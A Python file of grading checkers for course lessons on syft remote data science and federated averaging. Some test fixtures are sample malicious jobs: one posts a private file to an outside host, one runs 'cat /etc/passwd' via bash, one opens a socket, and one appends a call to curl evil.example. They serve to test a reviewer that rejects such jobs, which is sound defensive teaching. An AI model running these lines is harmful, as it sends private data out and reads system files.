"""Checkers for lessons 09–11: remote data science with syft, FedAvg, FL with syft.

Most answers are functions; each checker calls the learner's function on its own inputs (fresh
temporary folders, random state dicts) and compares with a reference computed here.
"""

from __future__ import annotations

import json
import tempfile
from pathlib import Path

import torch

from course_lib.exercises._registry import Incorrect, exercise, expect, expect_close

# -- lesson 09: remote data science with syft --------------------------------------------------


@exercise(
    "09.find_leaks",
    hint="hash every file's bytes (hashlib.sha256(p.read_bytes()).hexdigest()) in both folders "
    "and return the scientist's files whose hash is a private file's hash; compare contents, "
    "not names, and walk sub-folders with Path.rglob('*').",
)
def _(find_leaks) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        private, scientist = Path(tmp, "private"), Path(tmp, "scientist")
        (private / "sub").mkdir(parents=True)
        (scientist / "deep" / "er").mkdir(parents=True)
        (private / "patients.csv").write_text("id,age\n1,54\n2,61\n")
        (private / "sub" / "scans.bin").write_bytes(bytes(range(256)))
        (scientist / "patients.csv").write_text("id,age\n1,0\n2,0\n")  # same name, mock values
        (scientist / "result.json").write_text("57.5")
        (scientist / "deep" / "er" / "copy.dat").write_bytes(bytes(range(256)))  # renamed leak
        leaks = find_leaks(scientist, private)
        try:
            found = sorted(Path(p).resolve() for p in leaks)
        except TypeError as error:
            raise Incorrect("return a list of paths") from error
        expected = [(scientist / "deep" / "er" / "copy.dat").resolve()]
        expect(
            (scientist / "patients.csv").resolve() not in found,
            "patients.csv in the scientist's folder has the same NAME as a private file but "
            "different contents (it is the mock): it is not a leak",
        )
        expect(found == expected, f"expected exactly the renamed copy {expected}, got {found}")


_RED_FLAG_SCRIPTS = {
    "sends the data over the network": "import requests\n"
    "import syft as sy\n(p,) = sy.resolve_dataset_files_path('scans')\n"
    "requests.post('https://example.org', data=open(p, 'rb'))\n",
    "copies the private file into outputs/": "import shutil\n"
    "import syft as sy\n(p,) = sy.resolve_dataset_files_path('scans')\n"
    "shutil.copy(p, 'outputs/')\n",
    "runs shell commands": "import subprocess\nsubprocess.run(['bash', '-c', 'cat /etc/passwd'])\n",
    "opens a socket": "import socket\ns = socket.create_connection(('example.org', 80))\n",
}
_HARMLESS_SCRIPT = (
    "import json\nfrom pathlib import Path\n\nimport syft as sy\n\n"
    "(p,) = sy.resolve_dataset_files_path('ages')\n"
    "ages = [int(line) for line in Path(p).read_text().split()]\n"
    "Path('outputs').mkdir(exist_ok=True)\n"
    "Path('outputs/mean.json').write_text(json.dumps(sum(ages) / len(ages)))\n"
)


@exercise(
    "09.review_job",
    hint="look for red-flag words in the code: network modules (requests, socket, urllib), "
    "shell access (subprocess, os.system) and copying files (shutil); approve otherwise",
)
def _(should_approve) -> None:
    expect(
        should_approve(_HARMLESS_SCRIPT) is True,
        "the script that only writes the mean age to outputs/ should be approved",
    )
    for why, script in _RED_FLAG_SCRIPTS.items():
        expect(should_approve(script) is False, f"a script that {why} must be rejected")


# -- lesson 10: federated averaging -------------------------------------------------------------


def _random_states(k: int, seed: int) -> list[dict[str, torch.Tensor]]:
    g = torch.Generator().manual_seed(seed)
    return [
        {"layer.weight": torch.randn(3, 4, generator=g), "layer.bias": torch.randn(3, generator=g)}
        for _ in range(k)
    ]


@exercise(
    "10.fedavg",
    hint="for each parameter name: sum(w_k * state_k[name]) / sum(w_k) — weights are the "
    "clients' sample counts, so bigger clients count more",
)
def _(my_fedavg) -> None:
    from course_lib.fl.fedavg import fedavg

    for seed, weights in [(0, [1, 1]), (1, [100, 300, 600]), (2, [5])]:
        states = _random_states(len(weights), seed)
        got = my_fedavg(states, weights)
        expect(isinstance(got, dict), f"return a dict of tensors, got {type(got).__name__}")
        want = fedavg(states, weights)
        expect(set(got) == set(want), f"expected parameters {sorted(want)}, got {sorted(got)}")
        for name in want:
            expect_close(
                got[name], want[name], rtol=1e-5, atol=1e-6, what=f"{name} for weights {weights}"
            )


@exercise(
    "10.iid_split",
    hint="torch.randperm(n, generator=torch.Generator().manual_seed(seed)) shuffles the indices; "
    "torch.tensor_split(perm, num_clients) deals them into near-equal parts",
)
def _(my_iid_split) -> None:
    for n, clients in [(10, 3), (100, 7), (5, 5)]:
        parts = my_iid_split(n, clients, seed=0)
        expect(len(parts) == clients, f"{clients} clients need {clients} parts, got {len(parts)}")
        merged = sorted(int(i) for p in parts for i in p)
        expect(
            merged == list(range(n)),
            f"with n={n} every index 0..{n - 1} must appear in exactly one part",
        )
        sizes = [len(p) for p in parts]
        expect(max(sizes) - min(sizes) <= 1, f"sizes {sizes} should differ by at most 1")
    a, b = my_iid_split(100, 4, seed=0), my_iid_split(100, 4, seed=1)
    expect(
        any(sorted(map(int, x)) != sorted(map(int, y)) for x, y in zip(a, b, strict=True)),
        "different seeds should give different splits (shuffle the indices)",
    )
    expect(
        sorted(map(int, my_iid_split(100, 4, seed=0)[0])) != list(range(25)),
        "the first client got indices 0..24 in order: shuffle before splitting",
    )


@exercise(
    "10.proximal_term",
    hint="mu / 2 * sum over parameters of ((p - start[name]) ** 2).sum(), with p from "
    "model.named_parameters(); keep it a tensor so it can be back-propagated",
)
def _(proximal_term) -> None:
    torch.manual_seed(0)
    model = torch.nn.Linear(4, 3)
    start = {k: v.detach().clone() + 0.5 for k, v in model.state_dict().items()}
    got = proximal_term(model, start, 0.2)
    expect(isinstance(got, torch.Tensor), "return a tensor (so the term has a gradient)")
    want = 0.1 * sum(((p - start[n]) ** 2).sum() for n, p in model.named_parameters())
    expect_close(got, want.detach(), what="the proximal term")
    expect(got.requires_grad, "the term must depend on the model's parameters (requires_grad)")
    expect_close(proximal_term(model, start, 0.0), 0.0, what="the term with mu = 0")


# -- lesson 11: federated learning with syft ----------------------------------------------------


@exercise(
    "11.aggregate_outputs",
    hint="for each owner read num_samples.json (json.loads) and decode_state(model.b64 text); "
    "then return fedavg(states, sample_counts)",
)
def _(aggregate_outputs) -> None:
    from course_lib.fl.fedavg import fedavg
    from course_lib.fl.syft_bridge import encode_state

    states, counts = _random_states(3, 7), [120, 30, 850]
    with tempfile.TemporaryDirectory() as tmp:
        outputs = {}
        for k, (state, count) in enumerate(zip(states, counts, strict=True)):
            folder = Path(tmp, f"owner{k}")
            folder.mkdir()
            (folder / "model.b64").write_text(encode_state(state))
            (folder / "num_samples.json").write_text(json.dumps(count))
            outputs[f"hospital{k + 1}@health.example"] = {
                "model.b64": folder / "model.b64",
                "num_samples.json": folder / "num_samples.json",
            }
        got = aggregate_outputs(outputs)
    want = fedavg(states, counts)
    expect(isinstance(got, dict), f"return a state dict, got {type(got).__name__}")
    for name in want:
        expect(name in got, f"the result is missing {name!r}")
        expect_close(got[name], want[name], rtol=1e-5, what=name)


@exercise(
    "11.same_code",
    hint="compare the lists of non-empty lines: [line for line in code.splitlines() if "
    "line.strip()] — that is syft-rds' own rule for auto-approval",
)
def _(same_code) -> None:
    script = "import syft as sy\n\nx = 1\nprint(x)\n"
    expect(same_code(script, script) is True, "identical code must match")
    expect(
        same_code(script, script.replace("\n\n", "\n\n\n\n") + "\n\n") is True,
        "extra blank lines do not change what runs: they should match",
    )
    expect(
        same_code(script, script.replace("x = 1", "x = 2")) is False,
        "a changed line must not match",
    )
    expect(
        same_code(script, script + "import os; os.system('curl evil.example')\n") is False,
        "an extra line at the end must not match",
    )
    expect(
        same_code(script, script.replace("print(x)", "  print(x)")) is False,
        "indentation matters in Python: a re-indented line must not match",
    )
